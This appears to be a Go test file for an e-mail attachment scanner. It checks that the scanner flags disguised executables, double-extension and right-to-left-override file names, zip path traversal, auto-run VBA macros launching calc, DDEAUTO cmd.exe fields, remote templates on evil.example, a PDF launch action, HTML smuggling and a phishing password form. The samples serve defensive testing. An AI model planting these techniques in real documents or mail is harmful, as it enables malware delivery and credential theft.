package attachments

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"image"
	"image/png"
	"strings"
	"testing"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"
)

const evilMacro = "Sub AutoOpen()\r\nSet s = CreateObject(\"WScr\" & \"ipt.Shell\")\r\ns.Run \"calc\"\r\nEnd Sub\r\n"

const exe = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00\x00\x00\x00\x00" +
	"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00PE\x00\x00"

// native is the data of a packed object.
func native(name string, data []byte) []byte {
	b := append([]byte{2, 0}, name...)
	b = append(append(b, 0), `C:\`+name...)
	b = append(b, 0, 0, 0, 3, 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(name)+1))
	b = append(append(b, name...), 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(b))), b...)
}

func deflated(text string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return b.String()
}

// qrPicture draws a code.
func qrPicture(t testing.TB, text string) []byte {
	t.Helper()
	code, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, 300, 300, nil)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := png.Encode(&b, code); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func record(id uint16, data ...byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, id)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(data)))
	return append(b, data...)
}

func external(kind, target string) string {
	return `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="External"/>`
}

// TestWhatIsFoundInFiles: each file with the symbols it must have, and no others.
func TestWhatIsFoundInFiles(t *testing.T) {
	fib := append(make([]byte, 10), 0, 1)
	for _, c := range []struct {
		name string
		file file
		want string
	}{
		// names
		{"a text", file{"notes.txt", []byte("hello")}, ""},
		{"a program by its name", file{"setup.exe", []byte("x")}, "ATTACHMENT_FORBIDDEN"},
		{"a program by what it is", file{"setup.bin", []byte(exe)}, "ATTACHMENT_FORBIDDEN"},
		{"a program as a picture", file{"cat.jpg", []byte(exe)}, "ATTACHMENT_FORBIDDEN ATTACHMENT_TYPE_DIFFERS"},
		{"two endings", file{"invoice.pdf.exe", []byte("x")}, "ATTACHMENT_FORBIDDEN ATTACHMENT_DOUBLE_EXTENSION"},
		{"two endings and blanks", file{"invoice.pdf                    .scr", []byte("x")}, "ATTACHMENT_FORBIDDEN ATTACHMENT_DOUBLE_EXTENSION ATTACHMENT_NAME_ODD"},
		{"a dot behind the end", file{"run.vbs. ", []byte("x")}, "ATTACHMENT_FORBIDDEN ATTACHMENT_NAME_ODD"},
		{"a stream of NTFS", file{"run.exe::$DATA", []byte("x")}, "ATTACHMENT_FORBIDDEN ATTACHMENT_NAME_ODD"},
		{"D23 turned round", file{"photo\u202egpj.exe", []byte("x")}, "ATTACHMENT_FORBIDDEN ATTACHMENT_NAME_ODD"},
		{"a disk image", file{"a.iso", []byte("x")}, "ATTACHMENT_FORBIDDEN"},
		{"a shortcut without its ending", file{"a", []byte("\x4c\x00\x00\x00\x01\x14\x02\x00 and so on")}, "ATTACHMENT_FORBIDDEN"},
		{"OneNote", file{"a.bin", []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d and so on")}, "ATTACHMENT_FORBIDDEN"},
		{"an archive as a PDF", file{"a.pdf", zipped(t, file{"a.txt", []byte("x")})}, "ATTACHMENT_TYPE_DIFFERS"},
		{"a calendar", file{"invite.ics", []byte("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")}, ""},
		{"a signature", file{"smime.p7s", []byte{0x30, 0x80, 6, 9, 42}}, ""},
		{"RTF under the name of a document", file{"a.doc", []byte(`{\rtf1 hello}`)}, ""},
		{"an archive that nobody opens", file{"a.cab", []byte("MSCF\x00\x00\x00\x00 and so on")}, "ATTACHMENT_UNSCANNED"},
		// archives
		{"a zip of texts", file{"a.zip", zipped(t, file{"a.txt", []byte("x")}, file{"b/c.txt", []byte("y")})}, ""},
		{"a script in a zip", file{"a.zip", zipped(t, file{"doc.pdf.js", []byte("x")})}, "ATTACHMENT_FORBIDDEN_INNER ATTACHMENT_DOUBLE_EXTENSION"},
		{"a program two levels down", file{"a.zip", zipped(t, file{"b.zip", zipped(t, file{"readme.txt", []byte(exe)})})}, "ATTACHMENT_FORBIDDEN_INNER ATTACHMENT_TYPE_DIFFERS"},
		{"D16_a_name_that_leads_out", file{"a.zip", zipped(t, file{"../../evil.txt", []byte("x")})}, "ATTACHMENT_NAME_ESCAPES"},
		{"a mail as a file", file{"fwd.eml", mailOf("see there", file{"a.exe", []byte(exe)})}, "ATTACHMENT_FORBIDDEN_INNER"},
		{"a mail in a zip", file{"a.zip", zipped(t, file{"fwd.eml", mailOf("", file{"b.zip", zipped(t, file{"c.js", []byte("x")})})})}, "ATTACHMENT_FORBIDDEN_INNER"},
		// Office
		{"a document", file{"a.docx", word(t, "<w:p>hello</w:p>", external("hyperlink", "https://shop.example/"))}, ""},
		{"a template on the author's disk", file{"a.docx", word(t, "", external("attachedTemplate", `file:///C:\Templates\Normal.dotm`))}, ""},
		{"a template on the web", file{"a.docx", word(t, "", external("attachedTemplate", "https://evil.example/t.dotm"))}, "ATTACHMENT_TEMPLATE"},
		{"a linked object", file{"a.docx", word(t, "", external("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a"))}, "ATTACHMENT_TEMPLATE"},
		{"a field that starts a program", file{"a.docx", word(t, `<w:instrText>DDEA</w:instrText><w:instrText xml:space="preserve">UTO c:\\windows\\cmd.exe</w:instrText>`, "")}, "ATTACHMENT_DDE"},
		{"a field of the simple kind", file{"a.docx", word(t, `<w:fldSimple w:instr="DDEAUTO cmd.exe"/>`, "")}, "ATTACHMENT_DDE"},
		{"a workbook that starts a program", file{"a.xlsx", zipped(t, file{"[Content_Types].xml", []byte("<Types/>")}, file{"xl/externalLinks/externalLink1.xml", []byte(`<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`)})}, "ATTACHMENT_DDE"},
		{"Excel 4 macros in a new workbook", file{"a.xlsm", zipped(t, file{"[Content_Types].xml", []byte("<Types/>")}, file{"xl/macrosheets/sheet1.xml", []byte(`<xm:macrosheet/>`)})}, "ATTACHMENT_MACRO_XLM"},
		{"harmless macros", file{"a.docm", word(t, "", "", file{"word/vbaProject.bin", compoundOf(project("Sub Hello()\r\nMsgBox 1\r\nEnd Sub\r\n")...)})}, "ATTACHMENT_MACRO"},
		{"macros under another name", file{"a.docm", word(t, "", `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme/theme1.xml"/>`)}, "ATTACHMENT_MACRO ATTACHMENT_MACRO_SUSPICIOUS"},
		{"Excel 4 macros under another name", file{"a.xlsm", zipped(t, file{"[Content_Types].xml", nil}, file{"xl/_rels/workbook.xml.rels", []byte(`<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="sheet1.xml"/>`)})}, "ATTACHMENT_MACRO_XLM"},
		{"macros that start a program", file{"a.docm", word(t, "", "", file{"word/vbaProject.bin", compoundOf(project(evilMacro)...)})}, "ATTACHMENT_MACRO ATTACHMENT_MACRO_AUTORUN ATTACHMENT_MACRO_SUSPICIOUS"},
		{"the same in an old document", file{"a.doc", compoundOf(item{name: "WordDocument", data: make([]byte, 64)}, item{name: "Macros", children: project(evilMacro)})}, "ATTACHMENT_MACRO ATTACHMENT_MACRO_AUTORUN ATTACHMENT_MACRO_SUSPICIOUS"},
		{"macros whose directory is gone", file{"a.doc", compoundOf(item{name: "VBA", children: project(evilMacro)[0].children[1:]})}, "ATTACHMENT_MACRO ATTACHMENT_MACRO_AUTORUN ATTACHMENT_MACRO_SUSPICIOUS"},
		{"a Basic macro of OpenDocument", file{"a.odt", zipped(t, file{"mimetype", []byte("x")}, file{"META-INF/manifest.xml", []byte("<m/>")}, file{"Basic/Standard/Module1.xml", []byte("<script:module>Sub Main\nShell(&quot;calc&quot;)\nEnd Sub</script:module>")})}, "ATTACHMENT_MACRO ATTACHMENT_MACRO_SUSPICIOUS"},
		{"Excel 4 macros in an old workbook", file{"a.xls", compoundOf(item{name: "Workbook", data: append(record(0x85, 0, 0, 0, 0, 2, 1, 1, 0, 'M'), record(0x0a)...)})}, "ATTACHMENT_MACRO_XLM"},
		{"a DDE link in an old workbook", file{"a.xls", compoundOf(item{name: "Workbook", data: record(0x1ae, append([]byte{0, 0, 12, 0, 0}, "cmd\x03/c calc"...)...)})}, "ATTACHMENT_DDE"},
		{"a field in an old document", file{"a.doc", compoundOf(item{name: "WordDocument", data: append(make([]byte, 64), "\x13 DDEAUTO c:\\\\cmd.exe \x14"...)})}, "ATTACHMENT_DDE"},
		{"a packed program in an old document", file{"a.doc", compoundOf(item{name: "ObjectPool", children: []item{{name: "\x01Ole10Native", data: native("run.exe", []byte(exe))}}})}, "ATTACHMENT_FORBIDDEN_INNER ATTACHMENT_OBJECT"},
		{"the equation editor", file{"a.xls", compoundOf(item{name: "Equation Native", data: []byte("x")})}, "ATTACHMENT_EXPLOIT"},
		{"D15_a_new_document_with_a_password", file{"a.docx", compoundOf(item{name: "EncryptedPackage", data: []byte("x")}, item{name: "EncryptionInfo", data: []byte("x")})}, "ATTACHMENT_ENCRYPTED_DOCUMENT"},
		{"D15_an_old_document_with_a_password", file{"a.doc", compoundOf(item{name: "WordDocument", data: fib})}, "ATTACHMENT_ENCRYPTED_DOCUMENT"},
		{"D15_an_old_workbook_with_a_password", file{"a.xls", compoundOf(item{name: "Workbook", data: record(0x2f, 1, 0, 1, 0)})}, "ATTACHMENT_ENCRYPTED_DOCUMENT"},
		{"D15_old_slides_with_a_password", file{"a.ppt", compoundOf(item{name: "Current User", data: append(make([]byte, 12), 0xdf, 0xc4, 0xd1, 0xf3)})}, "ATTACHMENT_ENCRYPTED_DOCUMENT"},
		{"D15_OpenDocument_with_a_password", file{"a.odt", zipped(t, file{"META-INF/manifest.xml", []byte("<manifest:encryption-data/>")})}, "ATTACHMENT_ENCRYPTED_DOCUMENT"},
		{"D18_a_workbook_that_is_cut_off", file{"a.xls", compoundOf(item{name: "Workbook", data: record(0x85)})[:700]}, "ATTACHMENT_UNSCANNED ATTACHMENT_BROKEN"},
		{"D18_a_workbook_with_a_record_beyond_its_end", file{"a.xls", compoundOf(item{name: "Workbook", data: append(record(0x809, make([]byte, 5000)...)[:4100], 0)})}, "ATTACHMENT_UNSCANNED ATTACHMENT_BROKEN"},
		{"D18_nothing_but_the_magic", file{"a.xls", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")}, "ATTACHMENT_UNSCANNED ATTACHMENT_BROKEN"},
		// RTF
		{"RTF with an object", file{"a.rtf", []byte(`{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}`)}, "ATTACHMENT_OBJECT"},
		{"RTF with the equation editor, digits spread", file{"a.rtf", []byte(`{\rt{\object\objupdate{\*\objdata 0105000002000000{\junk}0b00 0000` + spread("Equation.3\x00") + `}}}`)}, "ATTACHMENT_OBJECT ATTACHMENT_EXPLOIT"},
		{"RTF with a template on the web", file{"a.rtf", []byte(`{\rtf1{\*\template http://evil.example/t.dotm}}`)}, "ATTACHMENT_TEMPLATE"},
		{"RTF with a packed script", file{"a.rtf", []byte(`{\rtf1{\object{\*\objdata 0105000002000000080000005061636b616765000000000000000000` + sized(native("a.js", []byte("x"))[4:]) + `}}}`)}, "ATTACHMENT_FORBIDDEN_INNER ATTACHMENT_OBJECT"},
		// PDF
		{"a PDF", file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj\n%%EOF")}, ""},
		{"a PDF with a script", file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj")}, "ATTACHMENT_PDF_SCRIPT"},
		{"a PDF with a script in an object stream", file{"a.pdf", []byte("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + deflated("<</S/JavaScript/JS(x)>>") + "\nendstream")}, "ATTACHMENT_PDF_SCRIPT"},
		{"a PDF with a name that is hidden", file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</S/J#61vaScript/J#53(x)>>endobj")}, "ATTACHMENT_PDF_SCRIPT ATTACHMENT_PDF_OBFUSCATED"},
		{"a PDF that starts a program", file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</S/Launch/Win<</F(cmd.exe)>>>>endobj")}, "ATTACHMENT_PDF_LAUNCH"},
		{"a PDF with a program in it", file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</UF(run.exe)/EF<</F 2 0 R>>>>endobj 2 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\r\n" + deflated(exe) + "\nendstream")}, "ATTACHMENT_FORBIDDEN_INNER ATTACHMENT_PDF_FILE"},
		{"an invoice with its data in it", file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</UF(factur-x.xml)/EF<</F 2 0 R>>>>endobj 2 0 obj<</Type/EmbeddedFile>>stream\r\n<xml/>\nendstream")}, "ATTACHMENT_PDF_FILE"},
		{"a PDF whose streams nobody unpacks", file{"a.pdf", []byte("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nxx\nendstream")}, "ATTACHMENT_UNSCANNED"},
		{"D15_a_PDF_with_a_password", file{"a.pdf", []byte("%PDF-1.4\ntrailer<</Encrypt 5 0 R>>")}, "ATTACHMENT_ENCRYPTED_DOCUMENT"},
		// HTML and SVG
		{"an HTML file", file{"a.html", []byte("<html><body>hello</body></html>")}, "ATTACHMENT_HTML"},
		{"an HTML file with a script", file{"a.html", []byte("<html><script>var a=1</script></html>")}, "ATTACHMENT_HTML ATTACHMENT_HTML_SCRIPT"},
		{"HTML that builds a file", file{"a.html", []byte("<html><script>var b=new Blob([Uint8Array.from(atob('UEsD'))]);location=URL.createObjectURL(b)</script></html>")}, "ATTACHMENT_HTML ATTACHMENT_HTML_SMUGGLING"},
		{"HTML with a file in a link", file{"a.htm", []byte(`<a download="a.zip" href="data:application/zip;base64,UEsD">open</a>`)}, "ATTACHMENT_HTML ATTACHMENT_HTML_SMUGGLING"},
		{"HTML that asks for a password", file{"a.html", []byte(`<html><form action="https://evil.example/"><input type=password></form></html>`)}, "ATTACHMENT_HTML ATTACHMENT_HTML_PASSWORD"},
		{"a picture in SVG", file{"a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="5"/></svg>`)}, ""},
		{"a script in SVG", file{"a.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)}, "ATTACHMENT_SVG_SCRIPT"},
		{"a handler in SVG", file{"a.svg", []byte(`<svg onload = "alert(1)"/>`)}, "ATTACHMENT_SVG_SCRIPT"},
		// pictures
		{"a QR code", file{"a.png", qrPicture(t, "https://evil.example/login")}, "ATTACHMENT_QR"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := check(t, newTest(t, nil), mailOf("hello", c.file))
			if got := strings.TrimSpace(found(r)); got != order(c.want) {
				t.Errorf("found %q, want %q; %+v", got, order(c.want), r.Hits)
			}
		})
	}
}

// order puts symbols into the order of the table.
func order(want string) string {
	var list []string
	for _, s := range symbols {
		if strings.Contains(want+" ", s.Name+" ") {
			list = append(list, s.Name)
		}
	}
	return strings.Join(list, " ")
}

// spread writes bytes as hexadecimal digits with junk between them.
func spread(text string) string {
	var b strings.Builder
	for _, c := range []byte(text) {
		fmt.Fprintf(&b, "%x \r\n%x{\\z}", c>>4, c&15)
	}
	return b.String()
}

// sized writes bytes as hexadecimal digits behind their length.
func sized(data []byte) string {
	return hex.EncodeToString(append(binary.LittleEndian.AppendUint32(nil, uint32(len(data))), data...))
}

func TestAddressesInFilesAreHandedOn(t *testing.T) {
	picture := image.NewGray(image.Rect(0, 0, 10, 10))
	var small bytes.Buffer
	if err := png.Encode(&small, picture); err != nil {
		t.Fatal(err)
	}
	r := check(t, newTest(t, nil), mailOf("hello",
		file{"a.png", qrPicture(t, "https://code.example/x")},
		file{"small.png", small.Bytes()},
		file{"a.pdf", []byte("%PDF-1.4\n1 0 obj<</S/URI/URI(https://pdf.example/\\(a\\))>>endobj")},
		file{"a.docx", word(t, "", external("hyperlink", "https://word.example/?a=1&amp;b=2"))},
		file{"b.zip", zipped(t, file{"a.html", []byte(`<a href="https://html.example/">x</a>`)}, file{"a.svg", []byte(`<svg><a xlink:href="https://svg.example/"/></svg>`)})}))
	var hosts []string
	for _, l := range r.Attached.Links {
		hosts = append(hosts, fmt.Sprintf("%s@%d", l.Host, l.PartIdx))
	}
	if got, want := strings.Join(hosts, " "), "code.example@2 pdf.example@4 word.example@5 html.example@6 svg.example@6"; got != want {
		t.Errorf("links %s, want %s", got, want)
	}
}
